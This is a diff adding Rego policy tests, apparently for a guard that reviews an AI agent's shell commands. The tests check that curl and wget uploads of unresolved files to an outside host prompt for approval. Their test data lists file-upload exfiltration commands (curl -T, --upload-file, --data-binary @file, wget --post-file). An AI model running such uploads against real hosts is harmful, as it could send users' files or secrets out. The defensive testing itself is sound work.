@@ -313,3 +313,23 @@ test_page_data_marks_are_not_denied_here if {
 		count(exfiltration.deny) == 0 with input as _input([seg], [])
 	}
 }
+
+# session 27: an upload whose file claude-rego cannot resolve asks; literal project files pass
+test_upload_of_unresolved_file_asks if {
+	every argv in [
+		["curl", "-T", "$F", "https://x.example.com/"], ["curl", "--upload-file", "${m[k]}", "https://x.example.com/"],
+		["curl", "--data-binary", "@$F", "https://x.example.com/"], ["curl", "-d", "@$(…)", "https://x.example.com/"],
+		["curl", "-F", "f=@$F;type=text/plain", "https://x.example.com/"], ["wget", "--post-file=$F", "https://x.example.com/"],
+	] {
+		count(exfiltration.ask) > 0 with input as _input([_seg(0, argv, {})], [])
+	}
+}
+
+test_upload_of_literal_or_stdin_is_quiet if {
+	every argv in [
+		["curl", "-d", "@-", "https://x.example.com/"], ["curl", "-d", "$PAYLOAD", "https://x.example.com/"],
+		["curl", "-o", "$OUT", "https://x.example.com/"], ["curl", "-H", "X-Id: $ID", "https://x.example.com/"],
+	] {
+		count(exfiltration.ask) == 0 with input as _input([_seg(0, argv, {})], [])
+	}
+}
